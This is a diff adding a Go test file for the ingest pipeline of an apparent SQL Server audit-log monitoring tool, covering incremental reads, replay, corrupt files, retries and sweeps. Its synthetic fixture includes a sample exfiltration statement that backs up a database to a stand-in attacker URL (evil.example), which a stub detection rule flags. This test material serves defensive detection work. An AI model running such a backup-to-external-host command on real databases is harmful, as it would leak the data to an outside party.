@@ -1,0 +1,377 @@
+package ingest
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"slices"
+	"testing"
+	"time"
+
+	"github.com/xelwatch/xelwatch/detect"
+	"github.com/xelwatch/xelwatch/xel/audit"
+	"github.com/xelwatch/xelwatch/xel/xeltest"
+)
+
+const testBlob = "srv1/db1/SqlDbAuditing_ServerAudit/2026-11-21/20_31_39_123_0.xel"
+
+var t0 = time.Date(2026, 11, 21, 20, 31, 40, 0, time.UTC)
+
+// auditFile writes n audit records (every 7th a backup) in 4 KiB buffers
+// over two partitions.
+func auditFile(t testing.TB, n int) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 4096, Partitions: 2})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range n {
+		a := xeltest.AuditEvent{
+			EventTime: t0.Add(time.Duration(i) * time.Second), ActionID: "BCM", ClassType: "DB", Succeeded: true,
+			ServerPrincipalName: "app", ServerInstanceName: "srv1", DatabaseName: "db1",
+			Statement: fmt.Sprintf("SELECT %d FROM dbo.orders -- %s", i, bytes.Repeat([]byte("x"), i%300)),
+		}
+		if i%7 == 3 {
+			a.ActionID, a.Statement = "BA", fmt.Sprintf("BACKUP DATABASE db1 TO URL = 'https://evil.example/%d.bak' WITH COPY_ONLY", i)
+		}
+		if err := w.WriteAudit(a); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// backupRule is a stand-in Evaluator: one finding per BACKUP record, with
+// a stable id.
+type backupRule struct{ calls int }
+
+func (b *backupRule) Evaluate(_ context.Context, r *audit.Record) ([]detect.Finding, error) {
+	b.calls++
+	if r.ActionID != "BA" {
+		return nil, nil
+	}
+	return []detect.Finding{{DetectionID: "EXF-" + RowKey(r), Rule: "EXF-001", Severity: detect.High, Time: r.EventTime}}, nil
+}
+
+type fixture struct {
+	blobs   *MemoryBlobs
+	cursors *MemoryCursors
+	rows    *MemoryRows
+	eval    *backupRule
+	p       *Pipeline
+	seen    map[string]int // finding id → times emitted
+}
+
+func newFixture(t testing.TB, opt Options) *fixture {
+	f := &fixture{blobs: NewMemoryBlobs(), cursors: NewMemoryCursors(), rows: NewMemoryRows(), eval: &backupRule{}, seen: map[string]int{}}
+	f.p = New(f.blobs, f.cursors, f.rows, f.eval, XEL{}, nil, opt)
+	return f
+}
+
+func (f *fixture) ingest(t testing.TB, ro RunOptions) Result {
+	t.Helper()
+	r, err := f.p.Ingest(context.Background(), testBlob, ro)
+	if err != nil {
+		t.Fatalf("Ingest: %v", err)
+	}
+	for _, fd := range r.Findings {
+		f.seen[fd.DetectionID]++
+	}
+	return r
+}
+
+func wantBackups(n int) int {
+	c := 0
+	for i := range n {
+		if i%7 == 3 {
+			c++
+		}
+	}
+	return c
+}
+
+func TestIngestAppendsInSteps(t *testing.T) {
+	t.Parallel()
+	const n = 400
+	file := auditFile(t, n)
+	cases := []struct {
+		name  string
+		steps []int // cut points
+	}{
+		{name: "whole", steps: []int{len(file)}},
+		{name: "mid-buffer-cuts", steps: []int{100, 5000, 5001, 9000, 20000, len(file) - 10, len(file)}},
+		{name: "byte-4096-multiples", steps: []int{4096, 8192, 3 * 4096, len(file)}},
+		{name: "header-only-then-rest", steps: []int{10, len(file)}},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			f := newFixture(t, Options{})
+			prev := 0
+			for _, cut := range tc.steps {
+				f.blobs.Append(testBlob, file[prev:cut], t0)
+				prev = cut
+				r := f.ingest(t, RunOptions{Owner: "inv"})
+				if r.Outcome == OutcomeFailed {
+					t.Fatalf("cut %d: cursor failed: %s", cut, r.Cursor.LastError)
+				}
+			}
+			if got := len(f.rows.Records()); got != n {
+				t.Errorf("rows = %d, want %d", got, n)
+			}
+			c, err := f.cursors.Get(context.Background(), testBlob)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if c.Offset != int64(len(file)) || c.State != StateOpen || c.Rows != n {
+				t.Errorf("cursor = offset %d state %s rows %d, want %d open %d", c.Offset, c.State, c.Rows, len(file), n)
+			}
+			if got, want := len(f.seen), wantBackups(n); got != want {
+				t.Errorf("distinct findings = %d, want %d", got, want)
+			}
+			// Nothing new: no decode, no cursor write.
+			before := f.rows.Writes
+			if r := f.ingest(t, RunOptions{}); r.Outcome != OutcomeUpToDate || f.rows.Writes != before {
+				t.Errorf("re-run outcome %s, writes %d→%d; want up-to-date and no writes", r.Outcome, before, f.rows.Writes)
+			}
+		})
+	}
+}
+
+func TestIngestReplayIsIdempotent(t *testing.T) {
+	t.Parallel()
+	file := auditFile(t, 120)
+	var snapshots [][]string
+	for range 3 {
+		f := newFixture(t, Options{})
+		f.blobs.Append(testBlob, file, t0)
+		f.ingest(t, RunOptions{})
+		var keys []string
+		for _, r := range f.rows.Records() {
+			keys = append(keys, RowKey(r)+"|"+r.Statement)
+		}
+		snapshots = append(snapshots, keys)
+	}
+	for i := 1; i < len(snapshots); i++ {
+		if !slices.Equal(snapshots[0], snapshots[i]) {
+			t.Fatalf("replay %d stored different rows", i)
+		}
+	}
+}
+
+func TestIngestCorruptFile(t *testing.T) {
+	t.Parallel()
+	file := auditFile(t, 200)
+	bad := bytes.Clone(file)
+	// Damage the header of the 4th event buffer (after the metadata).
+	at := len(bad) / 2 / 4096 * 4096
+	for i := at; i < at+64; i++ {
+		bad[i] = 0xEE
+	}
+	f := newFixture(t, Options{})
+	f.blobs.Append(testBlob, bad, t0)
+	r := f.ingest(t, RunOptions{})
+	if r.Outcome != OutcomeFailed {
+		t.Fatalf("outcome = %s, want failed", r.Outcome)
+	}
+	c, _ := f.cursors.Get(context.Background(), testBlob)
+	if c.State != StateFailed || c.LastError == "" || c.FailedOffset <= 0 {
+		t.Fatalf("cursor = %+v, want failed with offset and reason", c)
+	}
+	stored := len(f.rows.Records())
+	if stored == 0 || stored >= 200 {
+		t.Errorf("rows = %d, want the records before the damage (0 < n < 200)", stored)
+	}
+	for _, rec := range f.rows.Records() {
+		if rec.AuditFileOffset >= int64(at) {
+			t.Errorf("stored a record at %d, past the damage at %d", rec.AuditFileOffset, at)
+		}
+	}
+	// A later trigger on the failed blob does nothing (no retry storm).
+	f.blobs.Append(testBlob, []byte{1}, t0)
+	if r := f.ingest(t, RunOptions{}); r.Outcome != OutcomeFailed || r.Rows != 0 {
+		t.Errorf("second run: %s, %d rows; want failed, 0", r.Outcome, r.Rows)
+	}
+}
+
+func TestIngestTransientErrors(t *testing.T) {
+	t.Parallel()
+	file := auditFile(t, 300)
+	boom := errors.New("503 server busy")
+	cases := []struct {
+		name   string
+		inject func(f *fixture, fail *bool)
+	}{
+		{name: "blob-read", inject: func(f *fixture, fail *bool) {
+			f.blobs.Fail = func(op, _ string) error {
+				if op == "read" && *fail {
+					return boom
+				}
+				return nil
+			}
+		}},
+		{name: "rows", inject: func(f *fixture, fail *bool) {
+			f.rows.Fail = func(string) error {
+				if *fail {
+					return boom
+				}
+				return nil
+			}
+		}},
+		{name: "cursor-commit", inject: func(f *fixture, fail *bool) {
+			n := 0
+			f.cursors.Fail = func(op, _ string) error {
+				if op == "update" && *fail {
+					n++
+					if n == 2 { // the claim passes, the commit fails
+						return boom
+					}
+				}
+				return nil
+			}
+		}},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			f := newFixture(t, Options{})
+			fail := true
+			tc.inject(f, &fail)
+			f.blobs.Append(testBlob, file, t0)
+			if _, err := f.p.Ingest(context.Background(), testBlob, RunOptions{}); !errors.Is(err, boom) {
+				t.Fatalf("Ingest err = %v, want the storage error", err)
+			}
+			c, _ := f.cursors.Get(context.Background(), testBlob)
+			if c.Offset != 0 || c.State != StateOpen {
+				t.Fatalf("cursor moved on failure: %+v", c)
+			}
+			fail = false
+			r := f.ingest(t, RunOptions{})
+			if r.Outcome != OutcomeRead {
+				t.Fatalf("retry outcome = %s", r.Outcome)
+			}
+			if got := len(f.rows.Records()); got != 300 {
+				t.Errorf("rows after retry = %d, want 300", got)
+			}
+			if c, _ := f.cursors.Get(context.Background(), testBlob); c.Rows != 300 {
+				t.Errorf("cursor rows = %d, want 300 (not doubled)", c.Rows)
+			}
+		})
+	}
+}
+
+func TestIngestBudget(t *testing.T) {
+	t.Parallel()
+	file := auditFile(t, 600)
+	f := newFixture(t, Options{MaxBytesPerRun: 16 << 10})
+	f.blobs.Append(testBlob, file, t0)
+	runs := 0
+	for {
+		runs++
+		r := f.ingest(t, RunOptions{})
+		if r.Outcome != OutcomeMore {
+			break
+		}
+		if runs > 1000 {
+			t.Fatal("no progress")
+		}
+	}
+	if runs < 3 {
+		t.Errorf("runs = %d, want the budget to split the file", runs)
+	}
+	if got := len(f.rows.Records()); got != 600 {
+		t.Errorf("rows = %d, want 600", got)
+	}
+}
+
+func TestIngestConcurrentClaim(t *testing.T) {
+	t.Parallel()
+	file := auditFile(t, 50)
+	f := newFixture(t, Options{})
+	f.blobs.Append(testBlob, file, t0)
+	// The sweep claims the cursor between the trigger's Get and its claim.
+	inside := false
+	f.cursors.Fail = func(op, blob string) error {
+		if op == "update" && !inside {
+			inside = true
+			c, err := f.cursors.Get(context.Background(), blob)
+			if err != nil {
+				return err
+			}
+			if _, err := f.cursors.Update(context.Background(), c); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+	if _, err := f.p.cursor(context.Background(), testBlob, Path{}); err != nil {
+		t.Fatal(err)
+	}
+	r := f.ingest(t, RunOptions{Owner: "trigger"})
+	if r.Outcome != OutcomeBusy {
+		t.Fatalf("outcome = %s, want busy", r.Outcome)
+	}
+	if f.rows.Writes != 0 {
+		t.Errorf("the losing run wrote %d rows, want 0", f.rows.Writes)
+	}
+	// The next run (the winner's, say) does the work.
+	if r := f.ingest(t, RunOptions{Owner: "sweep"}); r.Rows != 50 {
+		t.Errorf("rows = %d, want 50", r.Rows)
+	}
+}
+
+func TestSweepDiscoversContinuesAndCloses(t *testing.T) {
+	t.Parallel()
+	now := time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC)
+	old := "srv1/db1/aud/2026-11-20/10_00_00_000_0.xel"
+	cur := "srv1/db1/aud/2026-11-21/10_00_00_000_0.xel"
+	ro := "srv1/db1/aud/2026-11-21/RO/10_00_00_000_0.xel"
+	ancient := "srv1/db1/aud/2026-10-01/10_00_00_000_0.xel"
+	file := auditFile(t, 80)
+	f := newFixture(t, Options{Now: func() time.Time { return now }})
+	for _, b := range []string{old, cur, ro, ancient} {
+		f.blobs.Append(b, file, now)
+	}
+	r, err := f.p.Sweep(context.Background(), SweepOptions{Days: 2, IdleClose: time.Hour})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Discovered != 3 {
+		t.Errorf("discovered = %d, want 3 (not the month-old folder)", r.Discovered)
+	}
+	if _, err := f.cursors.Get(context.Background(), ancient); !errors.Is(err, ErrNotFound) {
+		t.Errorf("ancient blob got a cursor: %v", err)
+	}
+	if got := len(f.rows.Records()); got != 3*80 {
+		t.Errorf("rows = %d, want %d", got, 3*80)
+	}
+	// Second sweep: old is superseded by cur → closed; cur and ro stay open.
+	if _, err := f.p.Sweep(context.Background(), SweepOptions{Days: 2, IdleClose: time.Hour}); err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]State{old: StateClosed, cur: StateOpen, ro: StateOpen}
+	for b, s := range want {
+		c, _ := f.cursors.Get(context.Background(), b)
+		if c.State != s {
+			t.Errorf("%s state = %s, want %s", b, c.State, s)
+		}
+	}
+	// Idle: two hours later without growth, the open ones close.
+	now = now.Add(2 * time.Hour)
+	if _, err := f.p.Sweep(context.Background(), SweepOptions{Days: 2, IdleClose: time.Hour}); err != nil {
+		t.Fatal(err)
+	}
+	for _, b := range []string{cur, ro} {
+		if c, _ := f.cursors.Get(context.Background(), b); c.State != StateClosed {
+			t.Errorf("%s state = %s, want closed after idling", b, c.State)
+		}
+	}
+	if got := len(f.rows.Records()); got != 3*80 {
+		t.Errorf("rows after closing = %d, want %d", got, 3*80)
+	}
+}
